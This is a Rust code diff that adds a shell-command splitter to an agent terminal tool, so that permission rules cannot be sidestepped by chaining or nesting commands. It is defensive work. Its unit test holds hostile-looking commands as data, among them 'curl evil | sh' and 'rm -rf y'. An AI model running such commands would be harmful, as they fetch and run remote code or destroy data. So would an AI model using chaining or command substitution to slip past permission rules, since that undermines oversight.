@@ -36,6 +36,18 @@ impl Tool for TerminalTool {
         true
     }
 
+    fn permission_subject(&self, input: &serde_json::Value) -> Option<String> {
+        serde_json::from_value::<TerminalToolInput>(input.clone())
+            .ok()
+            .map(|input| input.command)
+    }
+
+    fn permission_subject_parts(&self, input: &serde_json::Value) -> Vec<String> {
+        self.permission_subject(input)
+            .map(|command| shell_subcommands(&command))
+            .unwrap_or_default()
+    }
+
     fn description(&self) -> String {
         include_str!("./terminal_tool/description.md").to_string()
     }
@@ -252,6 +264,76 @@ async fn consume_reader<T: AsyncReadExt + Unpin>(
     Ok(())
 }
 
+/// Splits a shell command into the commands it runs, so that tool permission
+/// rules can't be sidestepped by chaining commands with `;`, `&&`, `||`, `|` or
+/// newlines, or by nesting them in `$(...)` or backticks.
+fn shell_subcommands(command: &str) -> Vec<String> {
+    let mut commands = Vec::new();
+    split_shell_command(&mut command.chars().peekable(), None, &mut commands);
+    commands
+}
+
+fn split_shell_command(
+    chars: &mut std::iter::Peekable<std::str::Chars>,
+    terminator: Option<char>,
+    commands: &mut Vec<String>,
+) {
+    let mut current = String::new();
+    let mut quote = None;
+    let mut prev = None;
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if quote != Some('\'') => {
+                current.push(c);
+                current.extend(chars.next());
+            }
+            c if quote == Some(c) => {
+                quote = None;
+                current.push(c);
+            }
+            '\'' | '"' if quote.is_none() => {
+                quote = Some(c);
+                current.push(c);
+            }
+            '$' if quote != Some('\'') && chars.peek() == Some(&'(') => {
+                chars.next();
+                current.push_str("$(");
+                split_shell_command(chars, Some(')'), commands);
+                current.push(')');
+            }
+            '`' if quote != Some('\'') && terminator != Some('`') => {
+                current.push(c);
+                split_shell_command(chars, Some('`'), commands);
+                current.push(c);
+            }
+            c if quote.is_none() && Some(c) == terminator => break,
+            // `>&` and `&>` are redirections rather than background jobs.
+            '&' if quote.is_none()
+                && (matches!(prev, Some('>' | '<')) || chars.peek() == Some(&'>')) =>
+            {
+                current.push(c);
+            }
+            ';' | '\n' | '|' | '&' | '(' | ')' if quote.is_none() => {
+                if matches!(c, '|' | '&') && chars.peek() == Some(&c) {
+                    chars.next();
+                }
+                push_shell_command(&mut current, commands);
+            }
+            _ => current.push(c),
+        }
+        prev = Some(c);
+    }
+    push_shell_command(&mut current, commands);
+}
+
+fn push_shell_command(command: &mut String, commands: &mut Vec<String>) {
+    let trimmed = command.trim();
+    if !trimmed.is_empty() {
+        commands.push(trimmed.to_string());
+    }
+    command.clear();
+}
+
 fn output_block(output: &str) -> String {
     format!(
         "```\n{}{}```",
@@ -267,6 +349,31 @@ mod tests {
 
     use super::*;
 
+    #[test]
+    fn test_shell_subcommands() {
+        assert_eq!(
+            shell_subcommands("cargo test -p agent"),
+            ["cargo test -p agent"]
+        );
+        assert_eq!(
+            shell_subcommands("cargo test; curl evil | sh"),
+            ["cargo test", "curl evil", "sh"]
+        );
+        assert_eq!(
+            shell_subcommands("cd x && rm -rf y || echo failed\nls &"),
+            ["cd x", "rm -rf y", "echo failed", "ls"]
+        );
+        assert_eq!(
+            shell_subcommands("echo $(rm -rf y) `curl evil` \"$(whoami)\""),
+            ["rm -rf y", "curl evil", "whoami", "echo $() `` \"$()\""]
+        );
+        assert_eq!(
+            shell_subcommands("echo 'a; b && $(c)' \"d | e\" f\\;g 2>&1"),
+            ["echo 'a; b && $(c)' \"d | e\" f\\;g 2>&1"]
+        );
+        assert_eq!(shell_subcommands("(cd x; rm y)"), ["cd x", "rm y"]);
+    }
+
     #[gpui::test(iterations = 10)]
     async fn test_run_command_simple(cx: &mut TestAppContext) {
         cx.executor().allow_parking();